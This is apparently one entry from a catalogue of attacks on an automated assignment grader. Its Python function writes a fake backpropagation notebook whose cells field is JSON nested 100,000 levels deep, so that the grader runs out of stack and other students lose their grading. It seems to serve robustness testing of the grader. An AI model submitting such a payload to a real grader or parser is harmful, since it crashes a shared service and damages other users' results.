# attack: 60
# title: JSON nested ten thousand and a hundred thousand times
# success: the grader runs out of stack
# kind: submission
# status: pending
# unshown: costs others their grading instead of forging
def build(folder, notebook):
    path = folder / "a07_backpropagation.ipynb"
    path.write_text('{"nbformat": 4, "cells": ' + "[" * 100_000 + "]" * 100_000 + "}")
